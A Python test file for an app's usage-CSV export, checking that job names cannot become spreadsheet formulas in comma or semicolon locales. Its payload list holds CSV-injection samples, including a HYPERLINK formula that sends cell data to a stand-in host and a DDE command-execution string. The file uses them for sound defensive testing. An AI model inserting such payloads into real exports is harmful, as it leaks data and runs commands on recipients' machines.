"""CSV for spreadsheets: everything that we write is quoted and nothing in it is run."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from serve_app.cli.money import usage_csv
from storage.ledger import JobUsage
from storage.types import StageName, Tier
from tests.places import PROJECT
from tests.tables import every

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(1+1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\ufeff=1", "＝1", "a;=1", "a;\u00a0@x",
    "\";=1", "\",\"=1", "a\n=1", "DDE(\"x\")", "%0A-3+3", "=1;=2",
]  # fmt: skip


def row_for(name: str) -> str:
    """The CSV of one job of that name."""
    charges = dict.fromkeys(StageName, 1)
    line = JobUsage(uuid.uuid4(), datetime.now(UTC), name, Tier.STANDARD, 30, charges)
    return usage_csv([line])


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]  # fmt: skip


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \u00a0\ufeff").startswith(STARTS)


@every("name", PAYLOADS)
@every("delimiter", [",", ";"], ids=["comma", "semicolon"])
def test_no_cell_is_a_formula_in_any_locale(name: str, delimiter: str) -> None:
    assert not [cell for cell in cells(row_for(name), delimiter) if is_formula(cell)]


@given(st.text(max_size=40), st.sampled_from(PAYLOADS))
def test_nor_with_anything_before_it(before: str, payload: str) -> None:
    written = row_for(before + payload)
    for delimiter in (",", ";"):
        assert not [cell for cell in cells(written, delimiter) if is_formula(cell)]


def test_a_name_is_one_cell_of_one_row() -> None:
    for payload in PAYLOADS:
        header, row = csv.reader(io.StringIO(row_for(payload), newline=""))
        assert len(header) == len(row)


def test_no_other_code_writes_csv() -> None:
    """A second writer would have to be looked at too."""
    writers = [
        path.relative_to(PROJECT).as_posix()
        for folder in ("serve_app", "pipelines", "models", "storage")
        for path in (PROJECT / folder).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|to_csv\(|write_csv", path.read_text())
    ]
    assert writers == ["serve_app/exports/timeline.py"]
